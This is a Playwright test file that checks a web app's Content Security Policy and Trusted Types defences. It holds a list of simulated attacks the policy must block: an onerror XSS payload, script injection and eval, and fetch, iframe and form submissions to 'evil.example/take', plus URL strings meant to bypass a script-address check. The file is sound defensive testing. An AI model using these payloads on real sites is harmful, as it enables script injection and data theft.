import { expect, type Page, test } from '@playwright/test';
import { type PolicyWatch, watchPolicy } from './support/policyWatch.ts';

const link = '/select/open00000000000000000001';
const ready = 'nav[data-ready="true"]';

async function openWatched(page: Page, path = link): Promise<PolicyWatch> {
  const watch = await watchPolicy(page.context());
  await page.goto(path);
  await expect(page.locator('main')).not.toBeEmpty();
  return watch;
}

test('the page that visitors get carries the policy, and nothing of the app is blocked by it', async ({
  page,
}) => {
  const watch = await watchPolicy(page.context());
  const answer = await page.goto(link);
  await expect(page.locator(ready)).toBeVisible();
  expect(answer?.headers()['content-security-policy']).toContain(
    "script-src 'self' 'wasm-unsafe-eval' 'sha256-",
  );
  expect(watch.blocked).toEqual([]);
});

/** A drag of 100 px at the end of the page, by a finger that stays. */
const pullUp = (page: Page) =>
  page.locator('main').evaluate((main) => {
    window.scrollTo(0, document.documentElement.scrollHeight);
    const touch = (clientY: number) => new Touch({ identifier: 1, target: main, clientY });
    main.dispatchEvent(new TouchEvent('touchstart', { bubbles: true, touches: [touch(600)] }));
    main.dispatchEvent(new TouchEvent('touchmove', { bubbles: true, touches: [touch(500)] }));
  });

test('the footer that is pulled out and a toast are drawn without a style of the markup', async ({
  page,
}) => {
  // A link that was cut gets a toast.
  const watch = await openWatched(page);
  await expect(page.locator(ready)).toBeVisible();
  await page.goto('/select/tooshort');
  await expect(page.locator('.toast-box')).toBeVisible();
  // What listens to drags is loaded once the page works, and nothing tells when: a drag before that pulls nothing.
  await expect(async () => {
    await pullUp(page);
    await expect(page.locator('.footer-more')).toHaveCSS('height', '100px', { timeout: 500 });
  }).toPass();
  expect(watch.blocked).toEqual([]);
});

/** Each runs inside the page and returns whether it got what it wanted. */
const attacks: readonly (readonly [name: string, directive: string, attack: () => unknown])[] = [
  [
    'an inline script',
    'script-src-elem|require-trusted-types-for',
    // Later, in the page's own name: what the test itself evaluates is not under the policy.
    () =>
      void setTimeout(() => {
        const script = document.createElement('script');
        script.text = 'window.hit = true';
        document.head.append(script);
      }),
  ],
  [
    'a script of another host',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      Reflect.set(script, 'src', 'https://evil.example/a.js');
      document.head.append(script);
    },
  ],
  [
    'markup out of a text',
    'require-trusted-types-for',
    () => Reflect.set(document.body, 'innerHTML', '<img src=x onerror="window.hit = true">'),
  ],
  [
    'a text run as a program',
    'script-src|require-trusted-types-for',
    () => void setTimeout(() => Reflect.get(window, 'eval').call(null, 'window.hit = true')),
  ],
  [
    'a second Trusted Types policy',
    'trusted-types',
    () => Reflect.get(window, 'trustedTypes').createPolicy('own', {}),
  ],
  [
    'an inline style sheet',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.append('main { display: none }');
      document.head.append(style);
    },
  ],
  ['a request to another host', 'connect-src', () => fetch('https://evil.example/take')],
  [
    'a frame',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  [
    'a form that is sent elsewhere',
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/take';
      document.body.append(form);
      form.submit();
    },
  ],
];

for (const [name, directive, attack] of attacks) {
  test(`${name} is blocked`, async ({ page }) => {
    const watch = await openWatched(page);
    await expect(page.locator(ready)).toBeVisible();
    await page.evaluate(attack).catch(() => undefined);
    await expect.poll(() => watch.blocked.join('\n')).toMatch(new RegExp(directive));
    expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined();
  });
}

test('only our own origin’s addresses become the address of a script', async ({ page }) => {
  await openWatched(page);
  const allowed = await page.evaluate(() => {
    const policy = Reflect.get(window, 'trustedTypes').defaultPolicy;
    const { origin } = location;
    const addresses = [
      '/sw.js',
      `${origin}/assets/a.js`,
      `${origin}@evil.example/a.js`,
      '//evil.example/a.js',
      '/\\\\evil.example',
      'data:text/javascript,1',
    ];
    return addresses.filter((address) => String(policy.createScriptURL(address)) === address);
  });
  expect(allowed).toEqual(['/sw.js', expect.stringMatching(/^http:\/\/localhost:\d+\/assets\/a\.js$/)]);
});

test('a picture that was uploaded runs nothing when it is opened directly', async ({ page }) => {
  const answer = await page.goto('/cos/none.svg');
  expect(answer?.headers()['content-security-policy']).toContain('sandbox');
});
